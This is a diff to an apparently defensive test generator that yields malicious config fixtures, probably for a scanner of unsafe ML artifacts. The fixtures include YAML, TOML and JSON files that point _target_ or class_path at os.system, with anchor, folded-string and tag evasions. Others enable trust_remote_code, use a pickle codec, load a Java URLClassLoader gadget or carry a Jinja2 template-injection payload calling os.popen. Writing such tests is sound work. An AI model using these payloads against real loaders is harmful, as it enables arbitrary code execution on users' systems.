@@ -168,6 +168,15 @@ def instantiated_attacks() -> Iterator[tuple[str, bytes]]:
         "java_tag.yaml",
         b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]\n',
     )
+    yield "class_path_in_text.json", json.dumps({"arguments": '{"class_path": "os.system"}'}).encode()
+    yield "flow.yaml", b"model: {class_path: os.system, init_args: {command: x}}\n"
+    yield "anchor.yaml", b"x: &a os.system\nmodel:\n  _target_: *a\n"
+    yield "folded.yaml", b"model:\n  _target_: >-\n    os.system\n"
+    yield "tagged.yaml", b"model:\n  _target_: !!str os.system\n"
+    yield "target.toml", b'[model]\n_target_ = "os.system"\n'
+    yield "trusting_flow.yaml", b"m: {pretrained: x, trust_remote_code: true}\n"
+    yield "trusting_text.json", b'{"model_kwargs": {"trust_remote_code": "true"}}'
+    yield "zarr.json", b'{"zarr_format": 3, "codecs": [{"name": "numcodecs.pickle", "configuration": {}}]}'
     yield "trusting.yaml", b"model:\n  trust_remote_code: true\n  pretrained: evil/model\n"
     template = "{{ cycler.__init__.__globals__.os.popen('x').read() }}"
     yield "prompt.json", json.dumps({"_type": "prompt", "template_format": "jinja2", "template": template}).encode()
